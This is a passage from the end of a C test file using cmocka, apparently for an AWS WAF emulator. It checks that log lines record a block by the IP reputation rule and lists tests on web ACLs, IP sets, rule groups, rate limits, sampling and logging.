                      "\\'terminatingRule\\':{\\'ruleId\\':\\'AWSManagedIPReputationList\\',"
                      "\\'action\\':\\'BLOCK\\'");
    assert_has(lines, "\\'labels\\':[{\\'name\\':\\'awswaf:managed:aws:amazon-ip-list:"
                      "AWSManagedIPReputationList\\'}]");
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, begin, end)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(a_resource_without_a_web_acl_is_not_guarded),
        TEST(changes_are_in_force_with_the_next_request),
        TEST(an_ip_set_s_change_is_in_force_at_once_too),
        TEST(a_rule_group_of_one_s_own_decides_and_changes),
        TEST(refusals_have_their_answers),
        TEST(listed_addresses_are_kept_out),
        TEST(a_folder_s_lists_take_the_place_of_the_samples),
        TEST(countries_come_from_a_file_smallest_block_first),
        TEST(networks_come_from_a_file),
        TEST(published_groups_see_what_they_are_for),
        TEST(changes_take_the_propagation_time_on_the_virtual_clock),
        TEST(samples_tell_which_rule_met_what),
        TEST(samples_tell_of_puzzles_and_inserted_headers),
        TEST(limited_addresses_can_be_asked_for),
        TEST(counts_survive_changes_elsewhere_and_begin_anew_with_new_settings),
        TEST(requests_are_logged_as_aws_does),
        TEST(a_filter_keeps_lines_out_of_the_log),
        TEST(groups_and_labels_are_in_the_log),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
